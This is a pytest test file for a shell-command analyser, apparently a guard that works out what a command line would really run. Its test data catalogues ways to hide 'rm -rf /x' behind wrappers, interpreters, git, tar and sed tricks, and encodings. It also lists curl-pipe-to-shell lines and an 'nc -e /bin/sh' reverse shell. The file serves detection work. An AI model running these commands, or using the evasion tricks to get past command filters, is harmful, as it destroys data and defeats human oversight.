"""What runs other things: wrappers, shells, interpreters, and programs that can be told to."""

from __future__ import annotations

import pytest

from fairlead.shell.unknown import Kind
from shell_kit import executed, last, lines, read

TARGET = "rm -rf /x"


@pytest.mark.parametrize(
    "prefix",
    [
        "sudo", "sudo -nu root", "sudo -u root -E --", "sudo A=1", "doas -u root", "pkexec --user root",
        "env",
        "env -", "env -i -u A B=1", "env 'A.B=1'", "command -p", "builtin", "exec -a n", "nohup", "nice -n 5",
        "nice -5", "nice --adjustment=5", "ionice -c2 -n0", "timeout -s KILL 5", "timeout --kill-after=1 5",
        "stdbuf -oL -e0", "setsid -w", "chrt -f 10", "taskset -c 0-3", "time -p", "busybox", "toybox",
        "xargs",
        "strace -f -e trace=file -o t", "ltrace -S", "unbuffer", "flock -n /l", "chroot --userspec=a:b /m",
        "unshare -r", "nsenter -t 1 -m", "systemd-run --user --unit=u", "xvfb-run -a -s '-screen 0'",
        "firejail --net=none",
        "proxychains4 -q", "faketime now", "fakeroot", "caffeinate -i", "setarch x86_64", "numactl -N 0",
        "uv run --with a", "uv tool run", "poetry run", "pipenv run", "pdm run", "hatch run", "pipx run",
        "npx -y",
        "npm exec --", "pnpm exec", "yarn dlx", "bunx", "bundle exec", "conda run -n e", "mise exec --",
        "aws-vault exec p --", "doppler run --", "docker run --rm -it -v a:/b img", "docker exec -u root c",
        "docker compose -f f exec -T web", "podman run img", "nerdctl exec c",
        "kubectl -n p exec -it pod -c c --",
        "kubectl run t --image=i --", "lxc exec c --", "ip netns exec n", "nix develop -c", "git bisect run",
        "parallel --jobs 4", "fd a -x", "script -q -c", "env -S", "gosu root", "su-exec root",
        "setpriv --reuid 1",
    ],
)  # fmt: skip
def test_a_wrapper_is_taken_off(prefix: str) -> None:
    quoted = prefix in ("script -q -c", "env -S")
    text = f"{prefix} '{TARGET}'" if quoted else f"{prefix} {TARGET}"
    assert any(line.startswith(TARGET) for line in lines(text)), lines(text)


@pytest.mark.parametrize(
    "text", ["sudo -l", "command -v rm", "env", "timeout 5", "nice", "sudo -k", "docker ps"]
)
def test_a_wrapper_that_runs_nothing_is_a_command_itself(text: str) -> None:
    assert lines(text) == [text]


def test_a_wrapper_tells_where_it_runs() -> None:
    places = {
        "ssh -p 2 me@host ls": "ssh:me@host",
        "docker exec -it web ls": "container:web",
        "kubectl exec pod -- ls": "pod:pod",
        "chroot /mnt ls": "chroot:/mnt",
        "sudo ls": "",
    }
    assert {text: last(text).wrappers[0].place for text in places} == places


@pytest.mark.parametrize(
    "text",
    [
        f"bash -c '{TARGET}'", f"bash -xec '{TARGET}'", f"bash -o pipefail -c '{TARGET}'",
        f"sh -c '{TARGET}' a b",
        f"bash --norc --noprofile -c '{TARGET}'", "bash -c 'rm -rf $0' /x", "bash -c 'rm -rf \"$@\"' _ /x",
        f"zsh -c '{TARGET}'", f"eval '{TARGET}'", "eval rm -rf /x", f"eval \"eval '{TARGET}'\"",
        f"source <(echo '{TARGET}')", f". /dev/stdin <<< '{TARGET}'", f"bash -s <<< '{TARGET}'",
        f"bash <<E\n{TARGET}\nE", f"echo '{TARGET}' | bash -", f"echo '{TARGET}' | sudo sh",
        f"printf '{TARGET}\\n' | tee log | sh", f"cat <<'E' | bash\n{TARGET}\nE", f"sudo -s <<< '{TARGET}'",
        f"su - root <<< '{TARGET}'", f"su root -c '{TARGET}'", f"sh 3<<< '{TARGET}' <&3",
        f"exec 3<<< '{TARGET}'; sh <&3", f"sh /dev/fd/3 3<<< '{TARGET}'", f"trap '{TARGET}' EXIT",
        f"watch -n 1 '{TARGET}'", f"watch {TARGET}", f"ssh h '{TARGET}'", f"ssh h {TARGET}",
        f"ssh h <<< '{TARGET}'",
        f"ssh -o ProxyCommand='{TARGET}' h", f"script -qc '{TARGET}' /dev/null", f"flock /l -c '{TARGET}'",
        f"nix-shell -p a --run '{TARGET}'", f"npx -c '{TARGET}'", f"xargs -I{{}} sh -c '{TARGET}'",
        "echo /x | xargs -I{} sh -c 'rm -rf {}'", "echo /x | xargs rm -rf",
        "printf '/x\\0' | xargs -0 rm -rf",
        "xargs rm -rf <<< /x", "xargs -a f rm -rf; echo /x > f; xargs -a f rm -rf",
        f"find . -exec {TARGET} \\;", f"find . -execdir sh -c '{TARGET}' +",
        "parallel rm -rf ::: /x", f"parallel <<< '{TARGET}'",
        f"git -c alias.z='!{TARGET}' z", f"git config alias.z '!{TARGET}'; git z",
        f"git rebase -x '{TARGET}' m",
        f"git submodule foreach '{TARGET}'", f"git -c core.pager='{TARGET}' log",
        f"git -c core.sshCommand='{TARGET}' fetch", f"git difftool -x '{TARGET}'",
        f"git clone 'ext::{TARGET}'",
        f"git filter-branch --tree-filter '{TARGET}' HEAD", f"GIT_SSH_COMMAND='{TARGET}' git fetch",
        f"export GIT_EDITOR='{TARGET}'; git commit", f"PAGER='{TARGET}' man ls",
        f"env LESSOPEN='|{TARGET}' less f",
        f"vim -c ':!{TARGET}' f", f"vim '+!{TARGET}' f", f"nvim --headless -c 'silent !{TARGET}'",
        f"vim -c 'call system(\"{TARGET}\")'", f"ed f <<< '!{TARGET}'", f"ex -sc '!{TARGET}' f",
        f"emacs --batch --eval '(shell-command \"{TARGET}\")'", f"man -P '{TARGET}' ls",
        f"awk 'BEGIN{{system(\"{TARGET}\")}}'", f"awk 'BEGIN{{c=\"{TARGET}\"; system(c)}}'",
        f"awk 'BEGIN{{\"{TARGET}\" | getline}}'", f"awk 'BEGIN{{print \"{TARGET}\" | \"sh\"}}'",
        f"sed '1e {TARGET}' f", "sed 's/.*/rm -rf \\/x/e' f", f"sed -n -e '/a/{{e {TARGET}\n}}' f",
        f"tar cf a b --checkpoint-action=exec='{TARGET}'", f"tar xf a --to-command='{TARGET}'",
        f"tar -I '{TARGET}' -xf a", f"zip a b -T -TT '{TARGET}'", f"rsync -e '{TARGET}' a b:",
        f"make -f - <<E\nall:\n\t@{TARGET}\nE", f"make --eval='a:; {TARGET}' a",
        f"make -f - <<< 'X:=$(shell {TARGET})'",
        f"at now <<< '{TARGET}'", f"echo '{TARGET}' | batch", f"echo '* * * * * {TARGET}' | crontab -",
        f"tmux new -d '{TARGET}'", f"tmux send-keys -t 0 '{TARGET}' Enter", f"tmux new -d {TARGET}",
        f"screen -dmS s {TARGET}", f"screen -X stuff '{TARGET}\\n'", f"expect -c 'spawn {TARGET}'",
        f"gdb -batch -ex 'shell {TARGET}'", f"psql -c '\\! {TARGET}'", f"sqlite3 a.db '.shell {TARGET}'",
        f"nodemon --exec '{TARGET}'", f"socat - EXEC:'{TARGET}'", f"concurrently '{TARGET}' ls",
        f"ansible all -m shell -a '{TARGET}'", f"ipython -c '!{TARGET}'",
        f"hg --config alias.z='!{TARGET}' z",
        f"entr -s '{TARGET}'", f"newgrp - <<< '{TARGET}'", f"yarn exec '{TARGET}'",
        f"split --filter='{TARGET}' f",
        f"git grep -O'{TARGET}' a", f"git clone -c core.sshCommand='{TARGET}' h:r", f"pee '{TARGET}' cat",
        f"git config --file f alias.z '!{TARGET}'; git z", f"rsync --rsync-path='{TARGET}' a h:",
        f"lldb -o 'platform shell {TARGET}'", f"psql -c \"COPY t FROM PROGRAM '{TARGET}'\"",
        f"gnuplot -e 'system \"{TARGET}\"'", f"xonsh -c '{TARGET}'", f"bash.exe -c '{TARGET}'",
        "X=/x env -vS'rm -rf ${X}'", "env -S 'rm\\_-rf\\_/x'", "x='$(rm -rf /x)'; echo ${x@P}",
        "start-stop-daemon --start --exec rm -- -rf /x", "oc rsh pod rm -rf /x",
        "guix shell a -- rm -rf /x",
        "machinectl shell web rm -rf /x", "IFS=, read -ra c <<< rm,-rf,/x; ${c[@]}",
        "mapfile -d , -t c <<< rm,-rf,/x,; ${c[@]}", "trap 'rm -rf $d' EXIT; d=/x",
        f"echo '{TARGET}' > >(bash)", f"echo '{TARGET}' | tee >(sh)", f"exec {{fd}}<<<'{TARGET}'; bash <&$fd",
        "r${x}m -rf /x", "printf -v 'a[0]' rm; ${a[0]} -rf /x", f"AWS_PAGER='{TARGET}' aws s3 ls",
        f"mkdir b; echo '{TARGET}' > b/ls; PATH=$PWD/b:$PATH ls", f"CC='{TARGET};' make",
        f"echo '{TARGET}' > a; at now -f a",
        f"TAR_OPTIONS='--checkpoint-action=exec=\"{TARGET}\"' tar cf a b",
        f"expect -c 'spawn sh; send \"{TARGET}\\r\"'",
        f"GIT_CONFIG_PARAMETERS=\"'core.pager={TARGET}'\" git log",
        f"X='!{TARGET}' git --config-env=alias.x=X x",
        f"printf '[alias]\\n x = !{TARGET}\\n' > c; GIT_CONFIG_GLOBAL=c git x",
        f"git -c alias.x='!{TARGET}' x",
        f"rpm --eval '%({TARGET})'", f"pdflatex '\\write18{{{TARGET}}}'",
        "parallel rm -rf {1}{2} ::: / ::: x",
        f"parallel --pipe sh <<< '{TARGET}'", f"find . -fprintf z '{TARGET}' && sh z",
        "make -C / -f - <<< $'a:\\n\\trm -rf /x'",
        f"python3 -c \"open('p.sh','w').write('{TARGET}')\"; sh p.sh", f"sed -n 2p <<< $'a\\n{TARGET}' | sh",
        f"pv <<< '{TARGET}' | sh", "emacs --eval '(call-process \"rm\" nil nil nil \"-rf\" \"/x\")'",
        f"script -q /dev/null {TARGET}", f"python3 -c \"print('{TARGET}')\" | sh",
        f"tool -P <(echo 'run(COMMAND {TARGET})')", f"repo forall -c {TARGET}", "zsh -c '=rm -rf /x'",
        "echo ${y//a/$(rm -rf /x)}", f"sops exec-env f '{TARGET}'",
        f"exec 3> >(sh); echo '{TARGET}' >&3", f"exec {{fd}}> >(sh); echo '{TARGET}' >&$fd",
        f"exec > >(sh); echo '{TARGET}'", f"exec 3>a; echo '{TARGET}' > /dev/fd/3; sh a",
        f"exec 3>&1 4> >(sh) 3>&4; echo '{TARGET}' >&3", f"{{ echo '{TARGET}' >&3; }} 3> >(sh)",
        f"coproc sh; echo '{TARGET}' >&${{COPROC[1]}}", f"coproc S {{ sh; }}; echo '{TARGET}' >&${{S[1]}}",
        f"exec 4<<<$'ls\n{TARGET}'; read -u 4 a; read -u 4 a; eval $a",
        "awk 'BEGIN{c=\"rm -rf\" \" /x\"; system(c)}'",
        "awk 'BEGIN{printf \"%s /x\", \"rm -rf\" | \"sh\"}'",
        f"cmake -P <(echo 'execute_process(COMMAND {TARGET} RESULT_VARIABLE r)')",
        "echo 'file(REMOVE_RECURSE /x)' > a.cmake; cmake -P a.cmake",
        "ant -f <(echo '<delete dir=\"/x\"/>')", f"printf 'a:\n  {TARGET}\n' | just -f - a",
        f"echo '{TARGET}' > .husky/pre-commit; git commit -m a",
        "declare -l c; c=RM; $c -rf /x", f": ${{x:?$({TARGET})}}",
        f"PS4='$({TARGET})' bash -xc :", f"BASH_ENV=<(echo '{TARGET}') bash -c :",
    ],
)  # fmt: skip
def test_text_that_would_run_is_read(text: str) -> None:
    assert TARGET in lines(text), lines(text)


@pytest.mark.parametrize(
    "text",
    [
        f"echo '{TARGET}' > a.sh; bash a.sh", f"echo '{TARGET}' > a.sh; chmod +x a.sh; ./a.sh",
        f"cat > a.sh <<E\n{TARGET}\nE\nsource a.sh", f"echo '{TARGET}' | tee a.sh; sh a.sh",
        f"dd of=a <<< '{TARGET}'; sh a",
        f"install /dev/stdin a <<< '{TARGET}'; ./a", f"echo '{TARGET}' > a; cp a b; sh b",
        f"echo '{TARGET}' > a; mv a b; sh ./b",
        f"cd /t; echo '{TARGET}' > a; cd /; sh t/a", f"echo ls > a; echo '{TARGET}' >> a; sh a",
        f"echo '{TARGET}' > a; cat a | sh", f"echo '{TARGET}' > a; sh < a",
        f"printf '%s' '{TARGET}' > a; eval \"$(cat a)\"",
    ],
)  # fmt: skip
def test_a_file_of_the_line_is_followed(text: str) -> None:
    assert TARGET in lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo cm0gLXJmIC94Cg== | base64 -d | sh", "base64 -d <<< cm0gLXJmIC94 | sh",
        "echo 'x/ fr- mr' | rev | sh",
        "echo 726d202d7266202f78 | xxd -r -p | bash",
        "echo 'sn -sg /y' | tr 'a-z' 'zabcdefghijklmnopqrstuvwxy' | sh",
        "bash -c \"$(echo cm0gLXJmIC94 | base64 --decode)\"", "echo cm0gLXJmIC94 | openssl base64 -d | sh",
        "$(printf '\\162\\155') -rf /x", "$(printf 'r%s' m) -rf /x", "a=r; b=m; $a$b -rf /x",
    ],
)  # fmt: skip
def test_what_is_decoded_and_run_is_read(text: str) -> None:
    assert TARGET in lines(text), lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl x | sh", "wget -qO- x | sudo bash -s -- a", "bash <(curl x)", 'eval "$(curl x)"',
        "source <(wget -O- x)",
        'sh -c "$(curl x)"', "curl x | tee f | bash", "curl x | gunzip | sh", "curl x > f; sh f",
        "curl -o f x; bash f",
        "curl -LO https://h/f.sh && sh f.sh", "wget https://h/f.sh; sh f.sh",
        "curl -fsSLo f x && chmod +x f && ./f",
        "git clone https://h/r.git && bash r/install.sh", "curl x | python3", 'python3 -c "$(curl x)"',
        "curl x | ssh h sh",
        "curl x | while read l; do eval \"$l\"; done", "curl x | xargs -I{} sh -c '{}'", "X=$(curl x); $X",
        "nc -e /bin/sh h 1", "curl x | tar xz && ./a/install",
    ],
)  # fmt: skip
def test_code_off_the_network_is_marked(text: str) -> None:
    assert [each for each in read(text).opaque if each.executed and each.network], read(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        'eval "$(ssh-agent -s)"', "source <(kubectl completion bash)", 'eval "$(direnv hook bash)"',
        "bash script.sh",
        'eval "$(pyenv init -)"', 'eval "$(brew shellenv)"', ". venv/bin/activate", '"$BIN" run "$ARG"',
        "./gradlew build",
        "curl x | jq .", "curl x | python3 -c 'import sys'", "bash -c \"cd $DIR && make\"",
        "diff <(curl a) <(curl b)",
        "sed 's/[^/]*$/new/' f", "sed -e 's|a|e|g;s/w/e/' f", "awk '{print $1}' f",
        "for f in *.py; do echo $f; done",
    ],
)  # fmt: skip
def test_common_idioms_run_nothing_unknown(text: str) -> None:
    assert not executed(text)


@pytest.mark.parametrize(
    "text",
    [
        'eval "$X"',
        'bash -c "$CODE"',
        "base64 -d blob | sh",
        "cat f | sh",
        'sh -c "$1$X"',
        'python3 -c "$X"',
        "X=1; eval $Y",
    ],
)
def test_unknown_code_is_marked(text: str) -> None:
    assert executed(text)


@pytest.mark.parametrize(
    ("text", "language", "code"),
    [
        ("python3 -c 'x'", "python", "x"), ("python3.12 -Ic 'x' a", "python", "x"),
        ("node -e x", "javascript", "x"),
        ("node --eval=x", "javascript", "x"), ("perl -lne x f", "perl", "x"),
        ("perl -i -pe x f", "perl", "x"),
        ("perl -MA::B -e x", "perl", "x"), ("ruby -rset -e x", "ruby", "x"), ("php -r x", "php", "x"),
        ("lua -e x", "lua", "x"), ("deno eval x", "javascript", "x"), ("bun -e x", "javascript", "x"),
        ("python3 - <<'E'\nx\nE", "python", "x\n"), ("python3 <<< x", "python", "x\n"),
        ("echo x | node", "javascript", "x\n"),
        ("echo x > a.py; python3 a.py", "python", "x\n"), ("python3 -m timeit x", "python", "x"),
        ("osascript -e x", "applescript", "x"), ("Rscript -e x", "r", "x"), ("awk 'x' f", "awk", "x"),
        ("printf '#!/usr/bin/env python3\\nx' > a; ./a", "python", "#!/usr/bin/env python3\nx"),
    ],
)  # fmt: skip
def test_code_of_other_languages_is_found(text: str, language: str, code: str) -> None:
    assert (language, code) in [(each.language, each.text) for each in read(text).code]


def test_a_module_or_a_script_is_no_code() -> None:
    assert not read("python3 -m pytest -c x; python3 manage.py; node server.js -e x").code


def test_find_and_xargs_keep_what_is_known_of_the_paths() -> None:
    assert last("find /srv -name a -exec rm {} +").argv[1].prefix == "/srv/"
    assert last("find /srv | xargs rm").argv[1].prefix == "/srv/"
    assert last("find . -exec rm -rf {}/tmp \\;").argv[2].text == "./{}/tmp"


def test_a_pattern_for_a_command_is_every_program_it_can_mean() -> None:
    assert lines("/bin/r? -rf /x") == ["/bin/rm -rf /x"]
    assert "/usr/bin/rm -rf /x" in lines("/usr/bin/r*m -rf /x")


def test_files_may_be_looked_at() -> None:
    from fairlead.shell.reader import read_script

    content = {"/p/a.sh": b"rm -rf /x"}
    found = read_script("./a.sh; bash b.sh", cwd="/p", home="/h", files=content.get)
    assert [command.argv[0].text for command in found.commands] == ["./a.sh", "rm", "bash"]


def test_sed_writes_are_redirections() -> None:
    assert [each.target.text for each in last("sed -n 'w /etc/x' f").redirects] == ["/etc/x"]


def test_an_unknown_first_word_may_be_empty() -> None:
    assert "rm -rf /x" in lines("$SUDO rm -rf /x")


def test_a_variable_that_names_a_shell_is_one() -> None:
    assert TARGET in lines(f"$SHELL -c '{TARGET}'")


@pytest.mark.parametrize(
    "text",
    [
        'eval "$(docker run evil bash)"', 'eval "$(gh api x --path env)"', 'eval "$(uv run x env)"',
        'eval "$(ssh-agent -s; curl x)"', 'eval "$(kubectl get cm x -o yaml)"', 'eval "$(npm run env)"',
        'eval "$(cat completion)"',
    ],
)  # fmt: skip
def test_settings_are_only_what_such_programs_print(text: str) -> None:
    assert executed(text)


def test_text_behind_settings_is_read() -> None:
    assert TARGET in lines(f'eval "$(ssh-agent -s); {TARGET}"')


@pytest.mark.parametrize("text", ["cp /bin/rm y; ./y -rf /x", "ln -s /usr/bin/rm y && ./y -rf /x"])
def test_another_name_for_a_program_is_that_program(text: str) -> None:
    assert any(line.endswith("bin/rm -rf /x") for line in lines(text))


def test_a_program_that_is_given_nothing_to_run_runs_nothing() -> None:
    script = read("gdb -batch -ex run --")
    assert [command.name for command in script.commands] == ["gdb"]


def test_an_alias_of_git_without_a_name_is_none() -> None:
    script = read("git -c alias.='!rm -rf /'")
    assert [command.name for command in script.commands] == ["git"]


def test_patterns_behind_patterns_do_not_multiply() -> None:
    script = read("`echo '* * * * * x'")
    assert len(script.commands) < 1000
    assert any(part.unknown.kind == Kind.TOO_MANY_STEPS for part in script.opaque)


def test_what_is_written_to_a_descriptor_of_one_command_is_gone_with_it() -> None:
    assert TARGET not in lines(f"ls 3> >(sh); echo '{TARGET}' >&3")


def test_more_traps_than_are_read_are_marked() -> None:
    assert executed("\n".join(f"trap 'echo {number}' EXIT" for number in range(30)))
